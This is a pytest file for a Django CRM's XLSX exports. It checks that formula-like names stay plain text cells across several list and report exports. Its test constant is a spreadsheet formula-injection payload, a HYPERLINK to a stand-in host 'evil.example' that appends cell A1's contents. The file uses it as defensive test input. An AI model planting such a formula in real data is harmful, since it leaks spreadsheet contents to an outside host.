"""XLSX exports store every text cell as text: a name typed as ``=HYPERLINK(...)`` must reach the
reader's spreadsheet as those characters, never as a formula it runs (the CSV exports already
prefix such cells with a quote)."""

import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from activities.tests.factories import ActivityFactory
from contacts.tests.factories import ContactFactory, OrganizationFactory
from opportunities.tests.factories import OpportunityFactory
from products.tests.factories import ProductFactory
from reports.tests.conftest import closed_deal

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def cells(response):
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_text_cell(response, text):
    matching = [cell for cell in cells(response) if cell.value == text]
    assert matching, f"{text!r} is not in the export"
    assert all(cell.data_type == "s" for cell in matching), [(c.coordinate, c.data_type) for c in matching]


@pytest.mark.parametrize(
    "url, make",
    [
        ("/opportunities/", lambda rep: OpportunityFactory(owner=rep, name=FORMULA)),
        ("/organizations/", lambda rep: OrganizationFactory(owner=rep, name=FORMULA)),
        ("/contacts/", lambda rep: ContactFactory(owner=rep, organization__owner=rep, last_name=FORMULA)),
        ("/activities/", lambda rep: ActivityFactory(owner=rep, subject=FORMULA, due_at=timezone.now())),
        ("/products/", lambda rep: ProductFactory(name=FORMULA)),
    ],
    ids=["deals", "organizations", "contacts", "activities", "products"],
)
def test_list_exports_keep_formula_like_text_as_text(client, rep, stages, url, make):
    make(rep)
    client.force_login(rep)

    assert_text_cell(client.get(f"{url}?export=xlsx"), FORMULA)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-2", "@SUM(A1)", "#N/A", "#DIV/0!"])
def test_every_dangerous_prefix_and_error_code_stays_text(client, rep, stages, text):
    OpportunityFactory(owner=rep, name=text)
    client.force_login(rep)

    assert_text_cell(client.get("/opportunities/?export=xlsx"), text)


def test_report_export_keeps_formula_like_labels_as_text(client, rep, stages):
    product = ProductFactory(name=FORMULA)
    closed_deal(rep, stages["Won"], "100.00", "2024-01-01", "2024-01-10", product=product)
    client.force_login(rep)

    response = client.get("/reports/won-lost/?group_by=product&date_from=2024-01-01&date_to=2024-12-31&export=xlsx")

    assert_text_cell(response, FORMULA)


def test_control_characters_do_not_break_the_xlsx_export(client, rep, stages):
    OpportunityFactory(owner=rep, name="Bell\x07 and escape\x1b")
    client.force_login(rep)

    assert_text_cell(client.get("/opportunities/?export=xlsx"), "Bell and escape")
